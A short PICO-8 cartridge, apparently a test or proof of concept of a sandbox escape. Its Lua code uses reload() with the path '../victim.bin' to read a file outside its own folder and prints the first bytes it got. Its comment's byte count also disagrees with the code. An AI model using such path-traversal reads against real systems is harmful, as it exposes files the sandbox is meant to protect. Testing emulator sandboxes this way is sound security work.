pico-8 cartridge // http://www.pico-8.com
version 42
__lua__
-- reads a file of 32768 bytes outside its folder into ram
reload(0,0,0x4300,"../victim.bin")
printh("read "..chr(peek(0))..chr(peek(1)))
